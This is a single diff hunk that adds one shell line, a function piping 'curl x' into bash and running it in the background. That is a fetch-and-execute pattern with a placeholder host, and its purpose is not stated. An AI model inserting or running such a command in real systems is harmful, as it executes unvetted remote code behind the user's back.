@@ -1,0 +1,1 @@
+f() { curl x | bash; }; f &
